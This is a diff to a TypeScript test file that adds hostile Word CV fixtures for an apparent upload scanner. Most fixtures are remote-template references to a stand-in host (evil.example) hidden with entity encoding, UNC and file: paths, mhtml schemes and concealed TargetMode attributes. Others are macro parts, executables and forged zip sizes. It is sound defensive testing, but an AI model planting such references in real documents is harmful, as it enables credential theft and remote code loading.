@@ -36,6 +36,18 @@ const docxEnd = docxOf().length - 22
 
 const docxWith = (parts: Zippable) => zipOf({ ...docxParts(), ...parts })
 const docxTyped = (types: string) => docxWith({ '[Content_Types].xml': textBytes(types) })
+const relationshipTypes = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const related = (relationship: string) =>
+	docxWith({
+		'word/_rels/settings.xml.rels': textBytes(
+			`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`,
+		),
+	})
+/** A Word document that refers to something outside of it. */
+export const referringTo = (type: string, target: string) =>
+	related(`<Relationship Id="rId1" Type="${relationshipTypes}/${type}" Target="${target}" TargetMode="External"/>`)
+const template = (what: string, target: string) => docx(what, () => referringTo('attachedTemplate', target))
+
 const docx = (what: string, bytes: () => Bytes): HostileFile => ({ what, name: 'cv.docx', bytes })
 const pdf = (what: string, bytes: () => Bytes): HostileFile => ({ what, name: 'cv.pdf', bytes })
 
@@ -126,6 +138,52 @@ export const hostileDocuments: readonly HostileFile[] = [
 	docx('types that begin behind the file', () => changed(docxOf(), { 28: [0xff, 0xff] })),
 	docx('types that have another name in their place', () => changed(docxOf(), { 30: [0x58] })),
 	docx('types that are packed otherwise in their place', () => changed(docxOf(), { 8: [0, 0] })),
+	template('a template on the web', 'https://evil.example/a.dotm'),
+	template('a template on the web in odd letters', ' HTTP://evil.example/a.dotm'),
+	template('a template on the web by entities', '&#104;&#x74;tp://evil.example/a.dotm'),
+	template('a template on the web with a line break in its scheme', 'ht&#10;tp://evil.example/a.dotm'),
+	template('a template on a share', '\\\\evil.example\\share\\a.dotm'),
+	template('a template on a share with slashes', '//evil.example/share/a.dotm'),
+	template('a template on a share by file:', 'file://evil.example/share/a.dotm'),
+	template('a template on a share by file: with more slashes', 'file://///evil.example/share/a.dotm'),
+	template('a template on a share with escapes', 'file:///%5C%5Cevil.example/share/a.dotm'),
+	template('a template on a share by its long name', '\\\\?\\UNC\\evil.example\\share\\a.dotm'),
+	template('a template by another scheme', 'mhtml:https://evil.example/a!b.dotm'),
+	docx('a picture on the web', () => referringTo('image', 'http://evil.example/a.png')),
+	docx('an object on a share', () => referringTo('oleObject', 'file://evil.example/share/a.xls')),
+	docx('a frame on the web', () => referringTo('frame', 'https://evil.example/')),
+	docx('a template whose mode another attribute hides', () =>
+		related(
+			`<Relationship Id='a TargetMode="Internal" Target="b.xml"' Type="${relationshipTypes}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`,
+		),
+	),
+	docx('a template on the web that is not called external', () =>
+		related(`<Relationship Id="a" Type="${relationshipTypes}/attachedTemplate" Target="https://evil.example/a.dotm"/>`),
+	),
+	docx('a template on the web, in a namespace with a prefix', () =>
+		related(
+			`<x:Relationship Id="a" Type="${relationshipTypes}/attachedTemplate" TargetMode='external' Target='https://evil.example/a.dotm'/>`,
+		),
+	),
+	docx('relationships in UTF-16', () => docxWith({ 'word/_rels/document.xml.rels': joined([0xff, 0xfe], '<\0R\0') })),
+	docx('relationships with an entity of their own', () =>
+		related('<!DOCTYPE a [<!ENTITY b "https://evil.example/">]>'),
+	),
+	docx('relationships longer than a million characters', () => related(' '.repeat(1_000_001))),
+	docx('a page that Word takes in', () =>
+		related(`<Relationship Id="a" Type="${relationshipTypes}/aFChunk" Target="page.xml"/>`),
+	),
+	docx('a part that is called after such a page', () =>
+		docxWith({ 'word/afchunk.mht': textBytes('MIME-Version: 1.0') }),
+	),
+	docx('macros under a name with a dot at its end', () => docxWith({ 'word/vbaProject.bin.': program() })),
+	docx('a program under a name with a space at its end', () => docxWith({ 'word/media/setup.exe ': program() })),
+	docx('a folder with a dot at its end', () => docxWith({ 'word/activeX./activeX1.xml': textBytes('<x/>') })),
+	docx('a part longer than declared', () => forgedDirectory(docxOf(), 24, uint(4, 9, true), isMainPart)),
+	docx('a part shorter than declared', () => forgedDirectory(docxOf(), 24, uint(4, 900, true), isMainPart)),
+	docx('a part that is not packed as it says', () =>
+		forgedDirectory(docxOf('CV', { bytes: 9_000 }), 10, [8, 0], (name) => name === 'docProps/filling.xml'),
+	),
 	docx('an old Word document', () => joined([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], new Uint8Array(600))),
 	docx('rich text', () => textBytes('{\\rtf1 CV}')),
 ]
